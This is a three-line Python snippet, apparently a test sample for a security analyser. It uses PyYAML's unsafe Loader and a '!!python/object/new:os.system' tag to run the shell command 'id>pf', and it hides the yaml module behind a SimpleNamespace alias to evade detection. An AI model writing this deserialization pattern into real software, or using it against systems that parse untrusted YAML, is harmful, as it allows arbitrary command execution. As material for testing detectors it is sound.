from types import SimpleNamespace as my_NS
import yaml
my_NS(a=yaml).a.load('!!python/object/new:os.system [id>pf]', Loader=my_NS(a=yaml).a.Loader)
